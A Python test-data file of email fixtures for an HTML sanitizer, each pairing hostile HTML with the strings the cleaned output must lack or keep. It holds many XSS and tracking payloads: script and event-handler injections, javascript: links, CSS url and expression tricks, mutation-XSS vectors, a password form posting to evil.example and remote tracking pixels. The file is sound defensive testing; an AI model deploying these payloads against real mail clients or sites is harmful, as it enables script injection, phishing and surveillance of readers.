"""HTML that wants to run, fetch or deceive, and what is left of it to read."""

from typing import Any

from tests.data.email.building.form import PNG, START, Mail, attached, base64_lines, lines, mail, multipart, plain
from tests.data.email.building.form import html as page

SHA = "attachment:"
PIXEL = b"".join(base64_lines(PNG)).decode()


def shown(name: str, why: str, source: str, lacks: list[str], keeps: str = "Hola", **more: Any) -> Mail:
    """A mail of HTML: what must not be left, and what must."""
    return mail(name, why, lines(*START) + page(source), html_contains=[keeps], html_lacks=lacks, **more)


MAILS = [
    shown(
        "script",
        "A script.",
        "<p>Hola</p><script>alert(1)</script><script src=//evil.example/x.js></script>",
        ["script", "alert", "evil"],
        text="Hola",
    ),
    shown(
        "handlers",
        "Handlers of events.",
        '<p onclick="a()" ONMOUSEOVER=b() onload>Hola</p><img src=x onerror=alert(1)>',
        ["onclick", "onmouseover", "onload", "onerror", "alert"],
    ),
    shown(
        "javascript-link",
        "Links that run.",
        '<a href="javascript:alert(1)">Hola</a><a href=" JaVa&#9;Script:alert(2)">dos</a><a href="vbscript:x">tres</a>',
        ["alert", "vbscript", "script:"],
    ),
    shown(
        "data-link",
        "A link to a page inside itself.",
        '<a href="data:text/html;base64,PHNjcmlwdD4=">Hola</a>',
        ["data:text", "PHNjcmlwdD4"],
    ),
    shown(
        "link-kept",
        "A link stays, and tells nobody where it was.",
        '<p>Hola <a href="https://tienda.example/a?b=1&amp;c=2">aquí</a></p>',
        [],
        'href="https://tienda.example/a?b=1&amp;c=2"',
        text_contains=["Hola", "aquí"],
    ),
    shown(
        "mailto-kept",
        "Links that write and call stay.",
        '<a href="mailto:ana@cliente.example">Hola</a><a href="tel:+34600000000">tel</a>',
        [],
        "mailto:ana@cliente.example",
    ),
    shown(
        "link-relative",
        "A relative link leads nowhere a mail knows.",
        '<a href="/admin/delete?id=1">Hola</a><a href="//evil.example/">dos</a>',
        ["/admin/delete", "//evil"],
    ),
    shown(
        "style-url",
        "Pictures by style.",
        '<div style="background:url(http://evil.example/p.gif);color:red">Hola</div>',
        ["evil", "url("],
    ),
    shown(
        "style-url-escaped",
        "The same, escaped.",
        '<div style="background:\\75\\72\\6c(http://evil.example/p.gif)">Hola</div>',
        ["evil"],
    ),
    shown(
        "style-image-set",
        "The same by another function.",
        "<div style=\"background-image:image-set('http://evil.example/p.gif' 1x)\">Hola</div>",
        ["evil"],
    ),
    shown(
        "style-expression",
        "Style that runs in old programs.",
        '<div style="width:expression(alert(1))">Hola</div>'
        '<div style="-moz-binding:url(x)">x</div><div style="behavior:url(x)">x</div>',
        ["expression", "binding", "behavior", "alert"],
    ),
    shown(
        "style-position",
        "A picture of a login laid over the whole desk.",
        '<div style="position:fixed;top:0;left:0;width:100%;z-index:999">Hola</div>',
        ["position", "z-index"],
    ),
    shown(
        "style-element",
        "A style sheet would style the desk.",
        "<style>@import url(http://evil.example/x.css); body{display:none}</style><p>Hola</p>",
        ["import", "evil", "display:none"],
        text="Hola",
    ),
    shown("style-color-kept", "Colours stay.", '<p style="color: red; font-weight:bold">Hola</p>', [], "color"),
    shown(
        "svg",
        "SVG that runs.",
        "<svg onload=alert(1)><script>alert(2)</script><a xlink:href='javascript:alert(3)'>x</a></svg><p>Hola</p>",
        ["svg", "alert", "script"],
    ),
    shown(
        "math",
        "MathML that runs.",
        '<math><mtext><script>alert(1)</script></mtext><maction actiontype="statusline#http://evil.example">x</maction></math><p>Hola</p>',
        ["math", "alert", "evil"],
    ),
    shown(
        "meta-refresh",
        "A page that leaves.",
        '<html><head><meta http-equiv="refresh" content="0;url=http://evil.example/"></head><body><p>Hola</p></body></html>',
        ["refresh", "evil", "<meta"],
    ),
    shown(
        "base",
        "A base for all links.",
        '<base href="http://evil.example/"><p>Hola</p><a href="x">x</a>',
        ["<base", "evil"],
    ),
    shown(
        "form",
        "A form that asks for a password.",
        '<form action="http://evil.example/"><input name=p type=password><button formaction="http://evil.example/2">Ok</button></form><p>Hola</p>',
        ["<form", "<input", "evil", "formaction"],
    ),
    shown(
        "frames",
        "Pages inside the page.",
        '<iframe src="http://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>'
        '<object data="http://evil.example/x.swf"></object>'
        '<embed src="http://evil.example/y"><p>Hola</p>',
        ["iframe", "object", "embed", "evil", "alert"],
    ),
    shown(
        "link-element",
        "Style sheets and hints from elsewhere.",
        '<link rel=stylesheet href="http://evil.example/x.css">'
        '<link rel=dns-prefetch href="//evil.example"><p>Hola</p>',
        ["<link", "evil"],
    ),
    shown(
        "remote-picture",
        "A picture from elsewhere tells that the mail was read.",
        '<p>Hola</p><img src="http://evil.example/pixel.gif?ana" width=1 height=1><img src="//evil.example/2.gif">',
        ['src="http', 'src="//'],
    ),
    shown(
        "remote-background",
        "Backgrounds from elsewhere.",
        '<body background="http://evil.example/a.gif"><table background="http://evil.example/b.gif"><tr><td background="http://evil.example/c.gif">Hola</td></tr></table></body>',
        ["background=", "evil"],
    ),
    shown(
        "srcset",
        "Pictures for every width.",
        '<p>Hola</p><picture><source srcset="http://evil.example/1.webp"><img srcset="http://evil.example/2.png 2x" src="http://evil.example/3.png"></picture>',
        ["srcset", 'src="http'],
    ),
    shown(
        "media",
        "Sound and film from elsewhere.",
        '<video poster="http://evil.example/p.png" src="http://evil.example/v.mp4" autoplay></video>'
        '<audio src="http://evil.example/a.mp3"></audio>'
        '<bgsound src="http://evil.example/a.mid"><p>Hola</p>',
        ["evil", "<video", "<audio", "bgsound"],
    ),
    shown(
        "data-picture",
        "A picture inside the page comes with the mail.",
        f'<p>Hola <img src="data:image/png;base64,{PIXEL}"></p>',
        ["http"],
        "data:image/png;base64,",
    ),
    shown(
        "data-svg",
        "A picture that is a program.",
        '<p>Hola</p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
        ["svg+xml"],
    ),
    shown(
        "comment",
        "Comments, and what Outlook reads in them.",
        "<!--[if mso]><script>alert(1)</script><![endif]--><p>Hola</p>"
        "<!-- <img src=x onerror=alert(2)> --><![if !mso]><p>dos</p><![endif]>",
        ["alert", "<!--", "endif"],
    ),
    shown(
        "mutation-noscript",
        "It changes when it is read a second time.",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>Hola</p>',
        ["onerror=alert"],
    ),
    shown(
        "mutation-math",
        "The same with MathML and a style.",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
        "</table></mtext></math><p>Hola</p>",
        ["<img src=1 onerror", "math"],
    ),
    shown(
        "mutation-title",
        "The same with a title.",
        '<svg></p><title><a id="</title><img src=x onerror=alert(1)>"></svg><p>Hola</p>',
        ["<img src=x onerror", "svg"],
    ),
    shown(
        "broken-tags",
        "Tags that never close.",
        "<p>Hola<b><i>dos</p><img src='x' <script>alert(1)</script><div",
        ["<script", "alert(1)</script"],
    ),
    shown(
        "nul-in-tag",
        "NULs inside names.",
        "<p>Hola</p><scr\0ipt>alert(1)</scr\0ipt><a href='java\0script:alert(2)'>x</a>",
        ["javascript", "<script"],
    ),
    shown(
        "meta-characters",
        "What is text stays text.",
        "<p>Hola &lt;script&gt;alert(1)&lt;/script&gt; &amp; más</p>",
        ["<script"],
        "&lt;script&gt;",
        text="Hola <script>alert(1)</script> & más",
    ),
    shown(
        "id-and-name",
        "Names that would hide the desk's own.",
        '<a name="cookie"></a><img id="body" name="getElementById"><p id="app" class="modal">Hola</p>',
        [' name="', ' id="', 'class="modal"'],
    ),
    shown(
        "target-blank",
        "A link that could reach its opener.",
        '<p>Hola <a href="https://x.example" target="_top">x</a></p>',
        ["_top"],
    ),
    mail(
        "cid-in-style-and-table",
        "Only the picture that came with the mail is shown.",
        multipart(
            "related",
            page('<p>Hola <img src="cid:p1@c"><img src="cid:otra@c"><img src="http://evil.example/x.png"></p>'),
            attached(PNG, "Content-Type: image/png", "Content-ID: <p1@c>"),
        ),
        html_contains=[SHA],
        html_lacks=["cid:", "evil"],
    ),
    mail(
        "cid-percent",
        "A reference with escapes.",
        multipart(
            "related",
            page('<p>Hola <img src="cid:p1%40c"></p>'),
            attached(PNG, "Content-Type: image/png", "Content-ID: <p1@c>"),
        ),
        html_contains=[SHA],
        html_lacks=["cid:"],
    ),
    mail(
        "cid-without-brackets",
        "A Content-ID without its brackets.",
        multipart(
            "related",
            page('<p>Hola <img src="CID:p1@c"></p>'),
            attached(PNG, "Content-Type: image/png", "Content-ID: p1@c"),
        ),
        html_contains=[SHA],
        html_lacks=["cid:"],
    ),
    mail(
        "location-picture",
        "A picture by its address (RFC 2557): if it is not resolved, at least it is not fetched.",
        multipart(
            "related",
            page('<p>Hola <img src="http://cliente.example/p.png"></p>'),
            attached(PNG, "Content-Type: image/png", "Content-Location: http://cliente.example/p.png"),
        ),
        html_contains=["Hola"],
        html_lacks=['src="http'],
    ),
    mail("none", "Plain text has no HTML.", lines(*START) + plain("<b>no</b>"), html=None, text_contains=["no"]),
]
